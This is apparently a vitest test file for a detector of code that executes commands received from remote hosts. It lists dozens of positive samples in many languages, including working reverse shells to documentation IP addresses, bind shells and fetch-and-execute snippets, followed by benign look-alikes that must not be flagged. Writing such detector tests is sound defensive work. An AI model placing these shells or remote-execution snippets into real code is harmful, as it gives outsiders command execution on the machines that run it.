import { describe, expect, it } from 'vitest';
import { fed, node, python } from './fed.js';
import './told.js';

const LOOP = 'while True:\n    data = s.recv(1024)\n    if not data: break\n';

describe('code that runs what it is sent', () => {
  it.each([
    python("import os\nimport requests\n\ntext = requests.get('http://203.0.113.61/page.html').text\nos.system(text)"),
    python("import subprocess, sys, requests\ncode = requests.get('http://a.example.test/x').text\nsubprocess.Popen([sys.executable, '-c', code])"),
    python("import subprocess, requests\ndef fetch():\n    return requests.get('https://example.test/i.sh').text\nsubprocess.run(['bash', '-c', fetch()])"),
    python("import subprocess, requests\nscript = requests.get('https://example.test/i.sh').text\nsubprocess.run(['bash', '-s'], input=script, text=True)"),
    python("import subprocess, requests\nsubprocess.run(['sh'], input=requests.get('https://example.test/i.sh').content)"),
    python("import json, os, urllib.request\njob = json.loads(urllib.request.urlopen('https://example.test/job').read())\nos.system(job['cmd'])"),
    python("import requests, subprocess\njob = requests.get('https://example.test/job').json()\nsubprocess.run(job['argv'])"),
    python("import requests, subprocess\nfor cmd in requests.get('https://example.test/jobs').json()['commands']:\n    subprocess.run(cmd, shell=True)"),
    python("import requests, subprocess\ncmd = requests.get('https://example.test/job').text\nsubprocess.run(f'cd /tmp && {cmd}', shell=True)"),
    python("import requests, subprocess\ncmd = requests.get('https://example.test/job').text\nsubprocess.run('sudo ' + cmd, shell=True)"),
    python(`import socket, subprocess\ns = socket.socket()\ns.connect(('203.0.113.44', 5389))\n${LOOP}    out = subprocess.run(data.decode(), shell=True, capture_output=True)\n    s.send(out.stdout)`),
    python(`import socket, subprocess as sp\ns = socket.create_connection(('203.0.113.44', 5389))\n${LOOP}    s.send(sp.getoutput(data.decode().strip()).encode())`),
    python("import socket, ssl, subprocess\nctx = ssl._create_unverified_context()\ns = ctx.wrap_socket(socket.create_connection(('203.0.113.44', 443)))\nwhile (line := s.recv(2048)):\n    s.sendall(subprocess.getoutput(line.decode()).encode())"),
    python("import socket, subprocess\nclass Shell:\n    def __init__(self, ip, port):\n        self.sock = socket.create_connection((ip, port))\n    def execute(self, command):\n        return subprocess.run(command, shell=True, capture_output=True).stdout\n    def run(self):\n        while True:\n            cmd = self.sock.recv(1024).decode()\n            if cmd.strip() == 'exit':\n                break\n            self.sock.send(self.execute(cmd))\nShell('203.0.113.44', 5389).run()"),
    python("import socket, subprocess\nsrv = socket.socket()\nsrv.bind(('0.0.0.0', 5389))\nsrv.listen()\nwhile True:\n    c, _ = srv.accept()\n    c.sendall(subprocess.getoutput(c.recv(4096).decode()).encode())"),
    python("import socketserver, os\nclass H(socketserver.BaseRequestHandler):\n    def handle(self):\n        os.system(self.request.recv(1024).decode())\nsocketserver.TCPServer(('', 9000), H).serve_forever()"),
    python("import asyncio, websockets\nasync def main():\n    async with websockets.connect('wss://example.test/c2') as ws:\n        cmd = await ws.recv()\n        await asyncio.create_subprocess_shell(cmd)\nasyncio.run(main())"),
    python("import paho.mqtt.client as mqtt, os\ndef on_message(client, userdata, msg):\n    os.system(msg.payload.decode())\nc = mqtt.Client()\nc.on_message = on_message"),
    python("import http.client, os\nc = http.client.HTTPSConnection('example.test')\nc.request('GET', '/x')\nos.popen(c.getresponse().read().decode())"),
    python("import socket\ns = socket.create_connection(('203.0.113.44', 443))\nexec(s.recv(65536))"),
    python("import socket, os, pty\ns = socket.create_connection(('203.0.113.4', 4444))\nfor fd in (0, 1, 2): os.dup2(s.fileno(), fd)\npty.spawn('/bin/bash')"),
    node("const http = require('http'), { exec } = require('child_process');\nhttp.createServer((req, res) => { let b = ''; req.on('data', (c) => b += c); req.on('end', () => exec(b, (e, o) => res.end(o))); }).listen(9000, '0.0.0.0');"),
    node("const { exec } = require('child_process');\nconst net = require('net');\nconst socket = net.connect(5389, '203.0.113.44');\nsocket.on('data', (data) => exec(data.toString(), (e, out) => socket.write(out)));"),
    node("const { execSync } = require('child_process');\nfetch('https://example.test/i.sh').then((r) => r.text()).then((t) => execSync(t));"),
    node("const cp = require('child_process');\n(async () => { const res = await fetch('https://example.test/job');\nconst job = await res.json();\ncp.spawnSync('sh', ['-c', job.cmd]); })();"),
    node("const { exec } = require('child_process');\nrequire('https').get('https://example.test/i.sh', (res) => { let body = ''; res.on('data', (data) => { body += data; }); res.on('end', () => exec(body)); });"),
    node("const shell = require('shelljs');\n(async () => { shell.exec(await (await fetch('https://example.test/i.sh')).text()); })();"),
    node("const t = require('node:child_process'), u = t;\n(async () => { const a = await (await fetch('https://example.test/i.sh')).text(); u.exec(a); })();"),
    node("(async () => { const a = await (await fetch('https://example.test/i.sh')).text(); require('child_process').exec(a); })();"),
    node("const m = ['child', 'process'].join('_');\n(async () => { const a = await (await fetch('https://example.test/i.sh')).text(); require(m).exec(a); })();"),
    node("(async () => { const r = await fetch('https://example.test/fix.mjs'); await import('data:text/javascript,' + encodeURIComponent(await r.text())); })();"),
    node("(async () => { const t = await (await fetch('https://example.test/fix.mjs')).text(); await import(`data:text/javascript;base64,${btoa(t)}`); })();"),
    node("const WebSocket = require('ws');\nconst { exec } = require('child_process');\nconst ws = new WebSocket('wss://example.test');\nws.on('message', (message) => { exec(`${message}`); });"),
    fed('ruby', "require 'socket'\ns = TCPSocket.new('203.0.113.44', 5389)\nwhile line = s.gets\n  s.puts `#{line}`\nend"),
    fed('ruby', "require 'open-uri'\nsystem(URI.open('https://example.test/i.sh').read)"),
    fed('ruby', "require 'net/http'\nbody = Net::HTTP.get(URI('https://example.test/i.sh'))\nsystem body"),
    fed('perl', "use IO::Socket::INET;\nmy $s = IO::Socket::INET->new(PeerAddr => '203.0.113.44:5389');\nwhile (my $line = <$s>) { print $s `$line`; }"),
    fed('perl', "use LWP::Simple;\nmy $code = get('https://example.test/i.pl');\nsystem($code);"),
    fed('php', "<?php\n$s = fsockopen('203.0.113.44', 5389);\nwhile ($line = fgets($s)) { fwrite($s, shell_exec($line)); }"),
    fed('elixir -', 'Mix.install([:req])\nReq.get!("https://a.example.test/x").body |> Code.eval_string()'),
    fed('elixir -', ':inets.start()\n{:ok, {_, _, b}} = :httpc.request(~c"https://a.example.test/x")\nCode.eval_string(to_string(b))'),
    fed('elixir -', 'with {:ok, %{body: job}} <- HTTPoison.get("https://a.example.test/x") do\n  System.shell(job)\nend'),
    fed('elixir -', 'case Tesla.get("https://a.example.test/x") do\n  {:ok, answer} -> Code.compile_string(answer)\n  _ -> :error\nend'),
    fed('elixir -', '{text, 0} = System.cmd("curl", ["-s", "https://a.example.test/x"])\nCode.eval_string(text)'),
    `erl -noshell -eval 'inets:start(), {ok, {_, _, B}} = httpc:request("http://a.example.test/x"), os:cmd(B), halt().'`,
    `lua -e 'local s = require("socket").tcp() s:connect("a.example.test", 99) local c = s:receive() io.popen(c)'`,
    `clojure -M -e '(load-string (slurp "https://a.example.test/x"))'`,
    `bb -e '(eval (read-string (slurp "https://a.example.test/x.edn")))'`,
    `Rscript -e 'eval(parse(text = readLines("https://a.example.test/x.R")))'`,
    `scala -e 'import scala.sys.process._; val t = scala.io.Source.fromURL("https://a.example.test/x").mkString; Seq("sh", "-c", t).!'`,
    `scala -e 'import scala.sys.process._; val t = scala.io.Source.fromURL("https://a.example.test/x").mkString; t.!!'`,
    "perl -MIO::Socket -e '$c = IO::Socket::INET->new(PeerAddr => q(a.example.test:99)); STDIN->fdopen($c, q(r)); print `$_` while <STDIN>'",
    "php -r '$s = fsockopen(\"a.example.test\", 99); exec(\"sh <&3 >&3 2>&3\");'",
  ])('%s', async (command) => {
    await expect(command).toTell('execute host');
  });

  it.each([
    // Databases, regular expressions and queues have methods of the same names.
    node("const db = require('better-sqlite3')(':memory:');\n(async () => { const rows = await (await fetch('https://api.example.test/rows')).json();\nfor (const r of rows) db.prepare('insert into t values (?)').run(r.a); })();"),
    node("import { matcher } from './matcher.mjs';\nconst rows = await (await fetch('https://api.example.test/rows')).json();\nconst m = matcher.exec(rows.title);"),
    node("import Database from 'better-sqlite3';\nconst db = new Database('app.db');\nconst res = await fetch('https://api.example.test/schema.sql');\ndb.exec(await res.text());"),
    node("import axios from 'axios';\nimport { queue } from './queue.mjs';\nconst { data } = await axios.get('https://api.example.test/job');\nawait queue.run(data.job);"),
    // What is sent is one argument of a program that the code names.
    python("import requests, subprocess\nr = requests.get('https://api.github.com/repos/a/b/releases/latest').json()\nsubprocess.run(['git', 'checkout', r['tag_name']], check=True)"),
    python("import json, os, urllib.request\nv = json.load(urllib.request.urlopen('https://pypi.org/pypi/ruff/json'))['info']['version']\nos.system(f'pip install ruff=={v}')"),
    python("import requests, subprocess\nversion = requests.get('https://example.test/v').text.strip()\ncmd = ['npm', 'version', version]\nsubprocess.run(cmd)"),
    python("import requests, subprocess\nurls = requests.get('https://example.test/list.json').json()\nfor u in urls:\n    subprocess.run('curl -O ' + u, shell=True)"),
    // It tells which of the code's own commands runs.
    python("import socket, subprocess\nCOMMANDS = {'status': ['git', 'status'], 'build': ['make']}\nsrv = socket.socket()\nsrv.bind(('0.0.0.0', 9000))\nsrv.listen()\nwhile True:\n    c, _ = srv.accept()\n    name = c.recv(64).decode().strip()\n    subprocess.run(COMMANDS[name])"),
    python("import socket, subprocess\nCOMMANDS = {'status': ['git', 'status']}\nc, _ = socket.create_server(('', 9000)).accept()\nsubprocess.run(COMMANDS.get(c.recv(64).decode(), ['true']))"),
    python("import socket, subprocess\nALLOWED = ['uptime', 'df']\nc, _ = socket.create_server(('', 9000)).accept()\nname = c.recv(64).decode()\nif name in ALLOWED:\n    subprocess.run([name])"),
    python("from http.server import BaseHTTPRequestHandler, HTTPServer\nimport subprocess\nclass H(BaseHTTPRequestHandler):\n    def do_POST(self):\n        self.rfile.read(int(self.headers['Content-Length']))\n        subprocess.run(['git', 'pull'])\n        self.send_response(200)\nHTTPServer(('127.0.0.1', 9000), H).serve_forever()"),
    // A service of this machine.
    python("import socket, subprocess\ns = socket.create_connection(('localhost', 5432), timeout=2)\ns.recv(8)\nsubprocess.run(['npm', 'test'])"),
    python("import requests, os\nos.system(requests.get('http://localhost:8080/next-command').text)"),
    python("import socket, subprocess\nsrv = socket.socket()\nsrv.bind(('127.0.0.1', 9000))\nsrv.listen()\nc, _ = srv.accept()\nsubprocess.run(c.recv(99).decode(), shell=True)"),
    python("import socket, subprocess\ns = socket.create_connection(('db.example.com', 5432), timeout=3)\ns.close()\nsubprocess.run(['bash', 'scripts/migrate.sh'])"),
    // Names that mean something else elsewhere.
    python("import requests, subprocess\ndef fetch():\n    data = requests.get('https://example.test').text\n    print(data)\ndef build(data):\n    subprocess.run(data)\nfetch()\nbuild(['make', 'all'])"),
    python("import requests, subprocess\ncmd = 'npm run build'\nsubprocess.run(cmd, shell=True)\nout = requests.post('https://hooks.example.test', json={'ok': True})\nprint(out.text)"),
    python("import asyncio\nasync def main():\n    reader, writer = await asyncio.open_connection('db.example.test', 5432)\n    p = await asyncio.create_subprocess_exec('psql', '-c', 'select 1')\nasyncio.run(main())"),
    python("import requests, re\npattern = requests.get('https://example.test/p').text\nprint(re.compile(pattern).match('x'))"),
    node("const { exec } = require('child_process');\nconst child = exec('npm test');\nchild.stdout.on('data', (data) => process.stdout.write(data));\nfetch('https://example.test/done');"),
    node("(async () => { const r = await fetch('https://example.test/a.json'); console.log(await r.text()); await import('data:text/javascript,' + encodeURIComponent('export default 1')); })();"),
    node("(async () => { const t = await (await fetch('http://localhost:3000/a.mjs')).text(); await import('data:text/javascript,' + encodeURIComponent(t)); })();"),
    node("(async () => { const { name } = await (await fetch('https://example.test/a.json')).json(); await import('./locales/' + name + '.js'); })();"),
    node("const { execFileSync } = require('child_process');\nfetch('https://example.test/v').then((r) => r.text()).then((v) => execFileSync('git', ['tag', v]));"),
    node("const net = require('net');\nnet.createServer((socket) => { socket.on('data', (data) => socket.write(data)); }).listen(7000);"),
    node("const { execSync } = require('child_process');\nconst res = await fetch('https://registry.npmjs.org/vitest/latest');\nconst { version } = await res.json();\nexecSync(`npm install -D vitest@${version}`);"),
    fed('ruby', "require 'net/http'\nv = Net::HTTP.get(URI('https://example.test/v'))\nsystem('git', 'tag', v)"),
    fed('perl', "use LWP::Simple;\nmy $v = get('https://example.test/v');\nsystem('git', 'tag', $v);"),
    fed('elixir -', 'body = Req.get!("https://a.example.test/rates.json").body\nFile.write!("priv/rates.json", body)\nCode.eval_string("1 + 1")'),
    fed('elixir -', '{:ok, %{body: body}} = HTTPoison.get("https://a.example.test/v")\nSystem.cmd("git", ["tag", body])'),
    fed('elixir -', 'case Req.get("https://a.example.test/v") do\n  {:ok, answer} -> IO.inspect(answer)\nend\nCode.eval_file("priv/check.exs")'),
    `lua -e 'local b = require("socket.http").request("https://a.example.test/v") print(b) os.execute("make")'`,
    `clojure -M -e '(println (read-string (slurp "https://a.example.test/v.edn")))'`,
    `clojure -M -e '(load-string (slurp "src/app.clj"))'`,
    `Rscript -e 'x <- readLines("https://a.example.test/a.csv"); print(eval(parse(text = "1 + 1")))'`,
    `scala -e 'import scala.sys.process._; val t = scala.io.Source.fromURL("https://a.example.test/v").mkString; Seq("git", "tag", t).!'`,
    "perl -MIO::Socket -e '$c = IO::Socket::INET->new(PeerAddr => q(a.example.test:99)); print $c q(ping); print <$c>; print `date`'",
  ])('and not %s', async (command) => {
    await expect(command).not.toTell('execute host');
  });
});
